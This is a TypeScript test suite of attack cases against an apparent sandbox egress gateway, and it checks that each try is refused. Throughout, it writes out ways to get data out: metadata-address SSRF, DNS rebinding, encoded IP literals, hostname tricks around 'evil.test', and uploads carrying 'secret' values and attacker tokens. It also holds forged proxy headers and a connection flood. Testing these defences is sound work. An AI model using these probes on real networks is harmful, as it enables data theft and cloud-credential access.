/** NET: ways out of the network, and exfiltration through what is allowed. */
import type { AttackCase } from '../case.ts';
import { WIDE } from '../stage.ts';
import { PASSED, REQUEST } from '../twins.ts';

const net = { class: 'NET', as: 'both', twin: REQUEST } as const;

export const NET: readonly AttackCase[] = [
  {
    ...net,
    id: 'NET-001',
    title: 'a host that no rule allows',
    tried: 'by name through the portal, and by CONNECT on the gateway’s own socket',
    tier: 'T1',
    probe: async (inside, given) => [
      await inside.addressOf(given.denied),
      (await inside.tunnel(`${given.denied}:443`)).status,
      (await inside.gateway(`GET http://${given.denied}/ HTTP/1.1\r\nHost: ${given.denied}\r\n\r\n`)).text.slice(0, 12),
    ],
    expected: { outcome: 'denied', reasons: ['not_allowed'] },
  },
  {
    ...net,
    id: 'NET-002',
    title: 'raw addresses',
    tried: 'TCP connections to public, private and metadata addresses, without a name and without a proxy',
    tier: 'T1',
    probe: (inside, given) => {
      const addresses = [
        ...[`1.1.1.${given.index}`, `93.184.64.${given.index}`, '8.8.8.8', '169.254.169.254', '10.0.0.1', '172.17.0.1'],
        ...['192.168.0.1', '198.19.255.250', '100.64.0.1', '224.0.0.1', '240.0.0.1', '203.0.113.1'],
      ];
      return Promise.all(addresses.map((address) => inside.tcp(address, 443, { send: ['secret'], waitMs: 3_000 })));
    },
    expected: {
      outcome: 'denied',
      reasons: ['ip_literal'],
      also: ({ denied }) =>
        denied.filter((entry) => entry.reason === 'ip_literal').length >= 10
          ? undefined
          : 'the ten unicast addresses were not all refused by the gateway',
    },
  },
  {
    ...net,
    id: 'NET-003',
    title: 'other ports of an allowed host',
    tried: 'CONNECT to ports 22, 25, 6379 and 8443, and to ports that are no numbers',
    tier: 'T0',
    probe: async (inside, given) => {
      const statuses: number[] = [];
      for (const port of ['22', '25', '6379', '8443', '0', '65536', '0443', '+443', '443a', '0x1bb', ''])
        statuses.push((await inside.tunnel(`${given.allowed}:${port}`, { send: ['secret'] })).status);
      return statuses;
    },
    expected: { outcome: 'denied', reasons: ['port_not_allowed', 'malformed'] },
  },
  {
    ...net,
    id: 'NET-004',
    title: 'IP addresses in every notation',
    tried: 'decimal, octal, hexadecimal, short and mapped forms through CONNECT and the absolute form',
    tier: 'T0',
    probe: async (inside) => {
      const literals = [
        ...['127.0.0.1', '2130706433', '0177.0.0.1', '0x7f.1', '0x7f000001', '127.1', '017700000001', '0', '1.1.1.1.'],
        ...[
          '16843009',
          '[::1]',
          '[::]',
          '[::ffff:7f00:1]',
          '[::ffff:127.0.0.1]',
          '[64:ff9b::a00:1]',
          '[fe80::1%25eth0]',
        ],
      ];
      const statuses: number[] = [];
      for (const literal of literals) {
        statuses.push((await inside.tunnel(`${literal}:443`)).status);
        await inside.gateway(`GET http://${literal}/ HTTP/1.1\r\nHost: ${literal}\r\n\r\n`, {
          enough: inside.answered,
        });
      }
      return statuses;
    },
    expected: {
      outcome: 'denied',
      reasons: ['ip_literal'],
      also: ({ queries, dials }) =>
        queries.length + dials.length === 0 ? undefined : 'something was looked up or dialled outside',
    },
  },
  {
    ...net,
    id: 'NET-006',
    title: 'an allowed name that resolves to special addresses',
    tried: 'the resolver answers with private, shared, multicast, mapped and translated ranges, one after the other',
    tier: 'T0',
    prepare: (internet, given) => {
      const ranges = [
        ...['10.1.2.3', '172.20.0.1', '192.168.1.1', '100.64.0.1', '0.1.2.3', '169.254.1.1', '192.0.0.8', '198.18.0.5'],
        ...['224.0.0.251', '240.0.0.1', '255.255.255.255', '127.0.0.1', '::1', '::ffff:10.0.0.1', 'fe80::1', 'fd12::1'],
        ...['64:ff9b::a00:1', '2002:a00:1::', '2001::1', 'ff02::1'],
      ];
      internet.names.set(given.allowed, () => [ranges.shift() ?? '10.0.0.1']);
    },
    probe: async (inside, given) => {
      const statuses: number[] = [];
      for (let turn = 0; turn < 20; turn += 1) statuses.push((await inside.tunnel(`${given.allowed}:443`)).status);
      return statuses;
    },
    expected: {
      outcome: 'denied',
      reasons: ['address_forbidden'],
      also: ({ dials, denied }) =>
        dials.length > 0
          ? `dialled ${dials.join(', ')}`
          : denied.find((entry) => entry.reason === 'address_forbidden')?.count === 20
            ? undefined
            : 'not each of the twenty answers was refused',
    },
  },
  {
    ...net,
    id: 'NET-007',
    title: 'cloud metadata',
    tried: 'by its names, by its address, and by an allowed name that resolves to it',
    tier: 'T1',
    prepare: (internet, given) => {
      for (const name of ['metadata.google.internal', 'instance-data']) internet.names.set(name, ['169.254.169.254']);
      internet.names.set(given.allowed, ['169.254.169.254']);
    },
    probe: async (inside, given) => [
      (await inside.tunnel('metadata.google.internal:80')).status,
      (await inside.tunnel('instance-data:80')).status,
      (await inside.tunnel(`${given.allowed}:80`)).status,
      await inside.tcp('169.254.169.254', 80, { send: ['GET / HTTP/1.0\r\n\r\n'], waitMs: 3_000 }),
    ],
    expected: {
      outcome: 'denied',
      reasons: ['not_allowed', 'address_forbidden', 'ip_literal'],
      also: ({ dials }) => (dials.length === 0 ? undefined : `dialled ${dials.join(', ')}`),
    },
  },
  {
    ...net,
    id: 'NET-008',
    title: 'DNS rebinding',
    tried: 'a public answer first, then loopback, then mixed sets',
    tier: 'T0',
    prepare: (internet, given, at) => {
      const mine = at('allowed').replace(':443', '');
      const answers = [[mine], ['127.0.0.1'], [mine, '10.0.0.1'], ['10.0.0.1', mine]];
      internet.names.set(given.allowed, () => answers.shift() ?? ['127.0.0.1']);
    },
    probe: async (inside, given) => {
      const statuses: number[] = [];
      for (let turn = 0; turn < 4; turn += 1)
        statuses.push((await inside.tunnel(`${given.allowed}:443`, { waitMs: 500 })).status);
      return statuses;
    },
    expected: {
      outcome: 'denied',
      reasons: ['address_forbidden'],
      also: ({ dials, queries }) =>
        dials.length === 1 && queries.length === 4
          ? undefined
          : `dialled ${dials.join(', ') || 'nothing'} after ${queries.length} look-ups; one look-up for each connection and one dial were due`,
    },
  },
  {
    ...net,
    id: 'NET-010',
    title: 'spellings of an allowed name',
    tried: 'double and leading dots, empty and overlong labels, wildcards, underscores and hyphens at the edges',
    tier: 'T0',
    probe: async (inside, given) => {
      const { allowed } = given;
      const names = [
        ...[`${allowed}..`, `.${allowed}`, allowed.replace('.', '..'), `${'a'.repeat(250)}.test`, '*', '*.test'],
        ...[`_.${allowed}`, `-${allowed}`, allowed.replace('.', '-.')],
      ];
      const statuses: number[] = [];
      for (const name of names) statuses.push((await inside.tunnel(`${name}:443`, { send: ['secret'] })).status);
      return statuses;
    },
    expected: {
      outcome: 'denied',
      reasons: ['malformed'],
      also: ({ queries }) => queries[0] && `asked for ${queries[0]}`,
    },
  },
  {
    ...net,
    id: 'NET-011',
    title: 'control characters and URL tricks in the authority',
    tried: 'NUL, CR, LF, tabs, user information, fragments, escapes and backslashes around an allowed name',
    tier: 'T0',
    probe: async (inside, given) => {
      const tricks = [
        '\0',
        '\r',
        '\n',
        '\t',
        ' ',
        '@',
        '#',
        '?',
        '\\',
        '%00',
        '%2e',
        '/',
        ';',
        '|',
        '"',
        '\x7f',
        '\xe9',
      ];
      let granted = 0;
      for (const trick of tricks) {
        for (const authority of [
          `${given.allowed}${trick}:443`,
          `${trick}${given.allowed}:443`,
          `evil.test${trick}${given.allowed}:443`,
        ]) {
          const { status } = await inside.tunnel(authority, { send: ['secret'], waitMs: 1_500 });
          if (status === 200) granted += 1;
        }
      }
      return granted;
    },
    expected: {
      outcome: 'denied',
      reasons: ['malformed'],
      also: ({ queries }) => queries[0] && `asked for ${queries[0]}`,
    },
  },
  {
    ...net,
    id: 'NET-012',
    title: 'international look-alikes',
    tried: 'Cyrillic letters, full-width dots, dotless i, right-to-left marks as raw bytes',
    tier: 'T0',
    probe: async (inside, given) => {
      const { allowed } = given;
      const names = [
        ...[allowed.replace('a', 'а'), allowed.replace('.', '。'), allowed.replace('.', '．'), `‮${allowed}`],
        ...[allowed.replace('i', 'ı'), `ß${allowed}`],
      ];
      const statuses: number[] = [];
      for (const name of names) {
        const bytes = String.fromCharCode(...new TextEncoder().encode(name));
        statuses.push((await inside.tunnel(`${bytes}:443`, { send: ['secret'] })).status);
      }
      return statuses;
    },
    expected: { outcome: 'denied', reasons: ['malformed'] },
  },
  {
    ...net,
    id: 'NET-013',
    title: 'names beside a wildcard',
    tried: `*.${WIDE} is allowed: its bare suffix, a longer name that ends the same, and two labels more`,
    tier: 'T0',
    probe: async (inside, given) => {
      const statuses: number[] = [];
      for (const name of [
        'wide.test',
        `evil${given.index}wide.test`,
        `a${given.index}.b.wide.test`,
        'wide.test.evil.test',
      ])
        statuses.push((await inside.tunnel(`${name}:443`, { send: ['secret'] })).status);
      return statuses;
    },
    expected: {
      outcome: 'denied',
      reasons: ['not_allowed'],
      also: ({ queries }) => queries[0] && `asked for ${queries[0]}`,
    },
  },
  {
    ...net,
    id: 'NET-014',
    title: 'a redirect from an allowed host to another one',
    tried: 'an allowed host answers 302 to a denied one, and the client follows',
    tier: 'T1',
    prepare: async (internet, given, at) => {
      await internet.serveHttps(at('allowed'), given.allowed, (_request, response) => {
        response.writeHead(302, { location: `https://${given.denied}/secret`, 'content-length': 0 }).end();
      });
    },
    probe: async (inside, given) => {
      const { text } = await inside.get(given.allowed, '/');
      const location = /location: https:\/\/([^/]+)/i.exec(text)?.[1] ?? 'none.invalid';
      return [
        text.slice(0, 12),
        location,
        await inside.get(location, '/secret'),
        (await inside.tunnel(`${location}:443`)).status,
      ];
    },
    expected: {
      outcome: 'denied',
      reasons: ['not_allowed'],
      silent: false,
      also: ({ sink, dials }) =>
        sink('denied') === '' && dials.length === 1
          ? undefined
          : 'the gateway followed the redirect, or let it be followed',
    },
  },
  {
    ...net,
    id: 'NET-015',
    title: 'forged identities',
    tried: 'forwarding headers, proxy credentials, the name of another run, and a Host that differs from CONNECT',
    tier: 'T1',
    probe: async (inside, given) => {
      const forged =
        'X-Forwarded-For: 127.0.0.1\r\nProxy-Authorization: Basic YWRtaW46YWRtaW4=\r\nForwarded: for=10.0.0.1\r\nX-Cofferdam-Run: r000000000000\r\nVia: 1.1 gateway\r\n';
      const { denied, allowed } = given;
      return [
        await inside.gateway(`CONNECT ${denied}:443 HTTP/1.1\r\nHost: ${denied}:443\r\n${forged}\r\n`),
        await inside.gateway(`CONNECT ${denied}:443 HTTP/1.1\r\nHost: ${allowed}:443\r\n\r\n`),
        await inside.gateway(`CONNECT ${allowed}:443 HTTP/1.1\r\nHost: ${denied}:443\r\n\r\n`),
      ].map(({ text }) => text.slice(0, 12));
    },
    expected: { outcome: 'denied', reasons: ['not_allowed', 'host_mismatch'] },
  },
  {
    ...net,
    id: 'NET-016',
    title: 'UDP, QUIC, ICMP, SCTP and raw sockets',
    tried: 'datagrams to public addresses, to this host’s loopback, and sockets below TCP and UDP',
    tier: 'T2',
    probe: async (inside, given) => {
      const raw = await inside.run([
        'python3',
        '-c',
        'import socket\nfor kind, proto in ((3, 1), (3, 255), (1, 132), (3, 6)):\n  try: socket.socket(2, kind, proto); print("OPEN", kind, proto)\n  except OSError: print("refused")',
      ]);
      const sent = await Promise.all([
        inside.udp('1.1.1.1', 443, 'secret'),
        inside.udp('93.184.64.1', 443, 'secret'),
        inside.udp('127.0.0.1', given.decoyPort, 'secret'),
        inside.udp('10.0.0.1', 123, 'secret'),
      ]);
      return { sent, raw: raw.text };
    },
    expected: {
      outcome: 'denied',
      also: ({ inside, dials }) => {
        const { sent, raw } = inside as { sent: string[]; raw: string };
        if (sent.some((answer) => answer !== '')) return 'a datagram was answered';
        return raw.includes('OPEN') || dials.length > 0 ? 'a raw socket was given' : undefined;
      },
    },
  },
  {
    ...net,
    id: 'NET-018',
    title: 'other protocols inside an allowed tunnel',
    tried: 'SSH, git, SMTP, DNS over TCP, Redis, plain HTTP and an SSLv2 hello to port 443 of an allowed host',
    tier: 'T1',
    twin: PASSED,
    probe: (inside, given) =>
      Promise.all(
        [
          'SSH-2.0-OpenSSH_9.2\r\n',
          '0032git-upload-pack /x\0host=allowed\0',
          'EHLO evil\r\n',
          '\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00',
          '*1\r\n$4\r\nPING\r\n',
          `GET / HTTP/1.1\r\nHost: ${given.passed}\r\n\r\n`,
          '\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10',
        ].map(async (bytes) => (await inside.tunnel(`${given.passed}:443`, { send: [bytes] })).text.length),
      ),
    expected: { outcome: 'denied', reasons: ['not_tls'] },
  },
  {
    ...net,
    id: 'NET-021',
    title: 'publishing to a host that may be read',
    tried: 'PUT, POST and DELETE with a token of the attacker',
    tier: 'T1',
    probe: async (inside, given) => {
      const heads: string[] = [];
      for (const method of ['PUT', 'POST', 'DELETE', 'PATCH']) {
        const bytes = `${method} /ok/package HTTP/1.1\r\nHost: ${given.read}\r\nAuthorization: Bearer ${given.mark}\r\nContent-Length: 6\r\n\r\nsecret`;
        heads.push((await inside.https(given.read, bytes, { enough: inside.answered })).text.slice(0, 12));
      }
      return heads;
    },
    expected: { outcome: 'denied', reasons: ['method_not_allowed'] },
  },
  {
    ...net,
    id: 'NET-022',
    title: 'data in the headers of a download',
    tried: 'User-Agent, Referer, cookies, an invented header and a long Accept-Language, all with a secret in them',
    tier: 'T1',
    probe: (inside, given) => {
      const secrets = ['User-Agent', 'Referer', 'Cookie', 'X-Data', 'npm-session', 'Authorization'];
      return inside.get(given.read, '/ok/file', [
        ...secrets.map((name) => `${name}: ${given.mark.repeat(name === 'User-Agent' ? 20 : 1)}`),
        `Accept-Language: ${given.mark.repeat(20)}`,
      ]);
    },
    expected: {
      outcome: 'neutralised',
      also: ({ sink, given }) =>
        !sink('read').includes('GET /ok/file')
          ? 'the download itself did not arrive'
          : sink('read').includes(given.mark)
            ? 'the secret arrived'
            : undefined,
    },
  },
  {
    ...net,
    id: 'NET-025',
    title: 'uploads to storage by a signed address',
    tried: 'PUT with a signed query to a host that may be read, and to one that no rule allows',
    tier: 'T1',
    probe: async (inside, given) => {
      const put = (host: string): string =>
        `PUT /ok/bucket/key?X-Amz-Signature=${given.mark} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 6\r\n\r\nsecret`;
      return [
        (await inside.https(given.read, put(given.read), { enough: inside.answered })).text.slice(0, 12),
        (await inside.tunnel(`${given.denied}:443`, { send: [put(given.denied)] })).status,
      ];
    },
    expected: { outcome: 'denied', reasons: ['method_not_allowed', 'not_allowed'] },
  },
  {
    ...net,
    id: 'NET-028',
    title: 'a flood of half-open connections',
    tried: '400 tunnels at once in which nothing is said',
    tier: 'T1',
    as: 'agent',
    probe: async (inside, given) => {
      const opened = await Promise.all(
        Array.from({ length: 400 }, () => inside.tunnel(`${given.passed}:443`, { waitMs: 2_000 })),
      );
      return opened.map(({ status }) => status).filter((status) => status === 200).length;
    },
    expected: {
      outcome: 'limited',
      reasons: ['too_many_connections'],
      silent: true,
      also: ({ dials }) => (dials.length <= 256 ? undefined : `${dials.length} connections were dialled at once`),
    },
  },
  {
    ...net,
    id: 'NET-029',
    title: 'slow clients',
    tried: 'half a request line, and half a ClientHello in a tunnel, and then silence',
    tier: 'T1',
    as: 'agent',
    probe: (inside, given) =>
      Promise.all([
        inside.gateway(`CONNECT ${given.passed}`, { waitMs: 20_000 }),
        inside.tunnel(`${given.passed}:443`, {
          send: [inside.clientHello([given.passed]).slice(0, 40)],
          waitMs: 20_000,
        }),
      ]),
    expected: { outcome: 'limited', reasons: ['timeout'], silent: true },
  },
];
